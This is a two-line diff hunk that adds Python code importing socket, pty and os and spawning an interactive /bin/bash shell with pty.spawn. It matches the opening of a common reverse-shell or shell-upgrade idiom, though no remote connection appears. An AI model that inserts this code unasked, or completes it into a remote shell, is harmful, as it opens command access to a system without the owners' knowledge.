@@ -1,0 +1,2 @@
+import socket, pty, os
+pty.spawn('/bin/bash')
